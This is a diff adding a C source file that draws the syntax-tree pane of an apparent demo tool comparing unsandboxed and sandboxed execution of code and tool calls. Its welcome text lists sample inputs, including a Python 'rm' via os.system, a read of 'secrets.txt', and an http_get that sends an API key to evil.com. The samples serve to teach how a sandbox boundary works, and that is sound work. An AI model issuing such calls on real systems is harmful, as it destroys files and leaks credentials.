@@ -1,0 +1,120 @@
+/*
+ * pane_ast.c -- the shared syntax-tree pane: the last input echoed with
+ * the offending node's span marked under it, then the tree as Python's
+ * ast module names it, the offending node highlighted (and marked '>' so
+ * it shows without colour).  Before the first input: the welcome.
+ */
+#include "config.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "record.h"
+#include "uipriv.h"
+
+static const char *const welcome[] = {
+	"Try the essay's inputs; each runs on every path, side by side:",
+	"  round(sum(orders) / len(orders), 2)",
+	"  read_file({'path': 'report.txt'})",
+	"  __import__('os').system('rm report.txt')",
+	"  delete_file({'path': 'secrets.txt'})",
+	"  http_get({'url': 'https://evil.com/x', 'body': 'API_KEY=sk-live-9f3a2b'})",
+	"  open('secrets.txt').read()",
+	"  write_file({'path': 'out.txt', 'text': 'ok'})",
+	"Unsafe: no boundary (damage simulated).  Sandbox: the essay's toy",
+	"boundary.  :play scenarios/essay.scn steps through the essay; F1 help.",
+	NULL
+};
+
+/* The input line holding byte off, and off's column within it. */
+static void
+locate(const char *in, uint32_t off, const char **line, size_t *len,
+    int *col)
+{
+	const char *p = in, *nl;
+	size_t n = strlen(in);
+	if (off > n)
+		off = (uint32_t)n;
+	while ((nl = memchr(p, '\n', n - (size_t)(p - in))) != NULL &&
+	    (uint32_t)(nl - in) < off)
+		p = nl + 1;
+	*line = p;
+	*len = strcspn(p, "\n");
+	*col = draw_width(p, (size_t)(in + off - p));
+}
+
+static void
+draw(struct ui *u, struct rect r, enum path_id unused)
+{
+	struct model *m = &u->m;
+	struct rect in;
+	int row = 0, top = 0, k;
+	size_t i;
+
+	if (r.h < 3 || r.w < 10)
+		return;
+	draw_box(r, draw_attr(u, UC_DIM), m->input ? " AST " : " welcome ");
+	in = (struct rect){ r.y + 1, r.x + 1, r.h - 2, r.w - 2 };
+	if (m->input == NULL) {
+		for (i = 0; welcome[i] != NULL && row < in.h; i++)
+			draw_text(in, row++, 0, welcome[i][0] == ' ' ?
+			    draw_attr(u, UC_OK) : (int)A_NORMAL, welcome[i]);
+		return;
+	}
+	/* The echoed input and the span under it. */
+	{
+		const char *line;
+		size_t len, take;
+		int col, endcol, x, shift = 0;
+		locate(m->input, m->has_span ? m->span_start : 0, &line, &len,
+		    &col);
+		if (m->has_span) {
+			const char *eline;
+			size_t elen;
+			int ecol;
+			locate(m->input, m->span_end, &eline, &elen, &ecol);
+			endcol = eline == line ? ecol : draw_width(line, len);
+			if (endcol <= col)
+				endcol = col + 1;
+			/* Keep the span on screen for long inputs. */
+			if (endcol > in.w - 2)
+				shift = col > 4 ? col - 4 : 0;
+		} else
+			endcol = col;
+		take = draw_fit(line, len, 1 << 30);
+		{
+			size_t skip = draw_fit(line, take, shift);
+			draw_text(in, row, 0, draw_attr(u, UC_DIM), "> ");
+			draw_textn(in, row++, 2, A_BOLD, line + skip,
+			    take - skip);
+		}
+		if (m->has_span && row < in.h) {
+			for (x = col; x < endcol && x - shift + 2 < in.w; x++)
+				draw_text(in, row, x - shift + 2,
+				    draw_attr(u, UC_BLOCKED) | A_BOLD, "^");
+			x = endcol - shift + 3;
+			if (m->span_note != NULL)
+				draw_text(in, row, x < in.w ? x : 2,
+				    draw_attr(u, UC_BLOCKED), m->span_note);
+			else if (m->parse_error != NULL)
+				draw_text(in, row, x < in.w ? x : 2,
+				    draw_attr(u, UC_ERROR), m->parse_error);
+			row++;
+		} else if (m->parse_error != NULL && row < in.h)
+			draw_text(in, row++, 2, draw_attr(u, UC_ERROR),
+			    m->parse_error);
+	}
+	/* The tree, scrolled so the highlighted node is in view. */
+	if (m->ast_hl >= 0 && (int)m->ast_hl >= in.h - row)
+		top = (int)m->ast_hl - (in.h - row) / 2;
+	for (k = 0; row < in.h && top + k < (int)m->nast; k++, row++) {
+		bool is_hl = top + k == (int)m->ast_hl;
+		draw_text(in, row, 0, is_hl ? draw_attr(u, UC_HL) : (int)A_NORMAL,
+		    is_hl ? ">" : " ");
+		draw_text(in, row, 1, is_hl ? draw_attr(u, UC_HL) : (int)A_NORMAL,
+		    m->ast[top + k].text);
+	}
+	(void)unused;
+}
+
+const struct pane_ops pane_ast = { "ast", draw };
